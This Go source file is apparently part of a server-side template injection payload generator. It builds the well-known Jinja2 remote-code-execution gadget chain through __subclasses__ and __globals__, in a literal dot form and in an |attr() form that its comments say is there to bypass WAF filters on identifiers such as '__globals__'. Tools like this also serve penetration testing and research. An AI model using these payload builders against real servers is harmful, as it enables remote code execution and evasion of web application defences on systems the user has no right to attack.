package ssti

import "fmt"

// defaultGadgetIndex is the __subclasses__() list position assumed to hold a
// class whose __init__.__globals__ exposes interesting module globals (the
// classic Jinja2-dialect RCE gadget: base.__class__.__mro__[1].__subclasses__()[idx]).
// The oracle only reports accept/reject of a fragment, never its evaluated
// result, so there is nothing to brute-force the right index against; this
// fixed heuristic default stands in, and a caller who has discovered the
// right index for their target out of band overrides it per goal.
const defaultGadgetIndex = 133

// globalRefSubgoalsDot/globalRefWeaveDot and the *Attr variants build the
// canonical "walk to a module/builtin global" expression:
//
//	obj.__class__.__mro__[1].__subclasses__()[idx].__init__.__globals__[name]
//
// in both its dot-literal form and its fully dynamic |attr(String(...)) form
// (so a WAF that blocks the literal substring "__globals__" etc. can still
// be bypassed by constructing each identifier at runtime via the string
// rules). The dot form consumes a 4-element parts slice: [obj, mroIdx,
// subclassesIdx, targetNameExpr]; the attr form a 9-element one: [obj,
// "__class__", "__mro__", mroIdx, "__subclasses__", subclassesIdx,
// "__init__", "__globals__", targetNameExpr].

func globalRefSubgoalsDot(obj Goal, targetName string, idx int) []Goal {
	return []Goal{obj, UnsignedInt(1), UnsignedInt(idx), String(targetName)}
}

func globalRefWeaveDot(parts []string) string {
	return fmt.Sprintf("%s.__class__.__mro__[%s].__subclasses__()[%s].__init__.__globals__[%s]",
		parts[0], parts[1], parts[2], parts[3])
}

func globalRefSubgoalsAttr(obj Goal, targetName string, idx int) []Goal {
	return []Goal{
		obj,
		String("__class__"),
		String("__mro__"),
		UnsignedInt(1),
		String("__subclasses__"),
		UnsignedInt(idx),
		String("__init__"),
		String("__globals__"),
		String(targetName),
	}
}

func globalRefWeaveAttr(parts []string) string {
	return fmt.Sprintf("%s|attr(%s)|attr(%s)[%s]|attr(%s)()[%s]|attr(%s)|attr(%s)[%s]",
		parts[0], parts[1], parts[2], parts[3], parts[4], parts[5], parts[6], parts[7], parts[8])
}
